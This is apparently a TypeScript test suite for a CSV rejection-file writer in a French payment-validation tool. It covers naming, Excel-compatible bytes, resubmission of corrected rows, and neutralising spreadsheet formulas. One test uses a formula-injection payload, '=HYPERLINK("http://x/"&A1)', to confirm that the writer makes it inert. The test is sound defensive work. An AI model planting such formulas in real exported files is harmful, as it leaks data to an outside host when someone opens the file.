import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { basename, dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { luhnKey } from '../../domain/identifiers.ts';
import { readInputRows } from '../../input/read-input.ts';
import { createRejectionFile, rejectionFilePath } from '../../input/rejection-file.ts';
import { validateRows, type ValidatedRow } from '../../input/row-validation.ts';
import { dipaPayment, dipaRow, type DipaRow } from '../../scenarios/dipa-payment.ts';
import { DIPA_HEADER, writeInputFile } from '../support/files.ts';

const VALID = 'DIPA-2020-000001;591097126;MATHIEU Guillaume;SPE;16/03/2020;30/06/2020;15280,29;FR0313507259787217660149276';
const BAD_AMOUNT = 'DIPA-2020-000027;591500152;DAVID Jérôme;MG;16/03/2020;30/06/2020;douze euros;FR2030004579707352608755076';
const BAD_PS_AND_IBAN = 'DIPA-2020-000255;594736580;"PRÉVOST; Éric";PHA;16/03/2020;30/06/2020;2723,31;FR0000000000000000000000000';

async function validate(file: string): Promise<ValidatedRow<DipaRow>[]> {
  const all = [];
  for await (const v of validateRows(dipaPayment, basename(file), readInputRows(file))) all.push(v);
  return all;
}

/** Validates a file and writes its rejection file, as `proweb validate` does. */
async function reject(file: string) {
  const rejections = createRejectionFile(file);
  for (const v of await validate(file)) if (!v.ok) await rejections.add(v, v.problems);
  return rejections.close();
}

describe('rejection file', () => {
  it('is named after the input, next to it, and never is the input', () => {
    expect(rejectionFilePath('/data/dipa.csv')).toBe('/data/dipa.rejets.csv');
    expect(rejectionFilePath('/data/dipa.xlsx')).toBe('/data/dipa.rejets.csv');
    expect(rejectionFilePath('/data/dipa.rejets.csv')).toBe('/data/dipa.rejets.rejets.csv');
  });

  it('holds the rejected rows as read, their row and every problem, in bytes Excel opens (BOM, ;, CRLF)', async () => {
    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${VALID}\n${BAD_AMOUNT}\n\n${BAD_PS_AND_IBAN}\n`);
    expect(await reject(file)).toEqual({ path: join(dirname(file), 'dipa.rejets.csv'), rows: 2 });
    const bytes = await readFile(join(dirname(file), 'dipa.rejets.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.split('\r\n')).toEqual([
      `${DIPA_HEADER};ligne;motif`,
      `${BAD_AMOUNT};3;"aide_calculee: ""douze euros"" is not a positive amount in euros"`,
      `${BAD_PS_AND_IBAN};5;"numero_ps: is not a PS number (9 digits with a valid key); iban: is not a valid IBAN (check key)"`,
      '',
    ]);
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');
  });

  it('leaves no file when no row is rejected, and removes the one of an earlier run', async () => {
    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${VALID}\n`);
    const old = rejectionFilePath(file);
    await writeFile(old, 'from an earlier run');
    expect(await reject(file)).toEqual({ path: old, rows: 0 });
    expect(existsSync(old)).toBe(false);
  });

  it('closes once, however often it is asked', async () => {
    const rejections = createRejectionFile(await writeInputFile('dipa.csv', ''));
    const [a, b] = await Promise.all([rejections.close(), rejections.close()]);
    expect(a).toBe(b);
  });

  it('corrected and resubmitted, reads like the input: the scenario ignores ligne and motif', async () => {
    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${VALID}\n${BAD_AMOUNT}\n${BAD_PS_AND_IBAN}\n`);
    const { path } = await reject(file);
    const rejected = await readFile(path, 'utf8');
    const goodPs = `59473658${luhnKey('59473658')}`;
    await writeFile(path, rejected.replace('douze euros', '12,00').replace('594736580', goodPs).replace('FR0000000000000000000000000', 'FR0313507259787217660149276'));

    const resubmitted = await validate(path);
    expect(resubmitted.map((v) => v.ok)).toEqual([true, true]);
    const [first, second] = resubmitted as Extract<ValidatedRow<DipaRow>, { ok: true }>[];
    expect(first!.raw).toMatchObject({ ligne: '3', numero_demande: 'DIPA-2020-000027' });
    expect(first!.row).toMatchObject({ requestId: 'DIPA-2020-000027', computedAidCents: 1200 });
    expect(second!.row).toMatchObject({ ps: goodPs, name: 'PRÉVOST; Éric' });
    expect(dipaRow.safeParse(first!.raw).success).toBe(true);
  });

  it('rejected again, keeps one ligne and one motif column, the newest', async () => {
    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${BAD_AMOUNT}\n`);
    const { path } = await reject(file);
    const again = await reject(path);
    expect(again.path).toBe(join(dirname(file), 'dipa.rejets.rejets.csv'));
    const lines = (await readFile(again.path, 'utf8')).split('\r\n');
    expect(lines[0]).toBe(`\ufeff${DIPA_HEADER};ligne;motif`);
    expect(lines[1]).toMatch(/;douze euros;FR2030004579707352608755076;2;"aide_calculee: /);
  });

  it('keeps a formula cell inert, and reads it back as the original text when the corrected file is resubmitted', async () => {
    const formula = '=HYPERLINK("http://x/"&A1)';
    const row = BAD_AMOUNT.replace('DAVID Jérôme', `"${formula.replace(/"/g, '""')}"`);
    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${row}\n`);
    const { path } = await reject(file);
    const written = await readFile(path, 'utf8');
    // Excel and LibreOffice show a cell starting with ' as text: nothing runs when an agent opens it.
    expect(written.split('\r\n')[1]).toContain(`;"'=HYPERLINK(""http://x/""&A1)";`);
    expect(written).not.toMatch(/[;\n]"?=HYPERLINK/);

    await writeFile(path, written.replace('douze euros', '12,00'));
    const [resubmitted] = await validate(path);
    expect(resubmitted!.raw.nom).toBe(formula);
    expect(resubmitted).toMatchObject({ ok: true, row: { name: formula } });
  });

  it('removes only the apostrophe the writer added, from its own files only', async () => {
    // A person's own apostrophes, in a file proweb wrote and in an input file it did not.
    const cells = (nom: string) => BAD_AMOUNT.replace('DAVID Jérôme', nom);
    const written = await writeInputFile('dipa.rejets.csv', `${DIPA_HEADER};ligne;motif\n${cells("''=1+1")};3;x\n${cells("'Jérôme")};4;x\n${cells("'-12")};5;x\n`);
    expect((await validate(written)).map((v) => v.raw.nom)).toEqual(["'=1+1", "'Jérôme", "'-12"]);
    const input = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${cells("'=1+1")}\n`);
    expect((await validate(input)).map((v) => v.raw.nom)).toEqual(["'=1+1"]);
  });
});
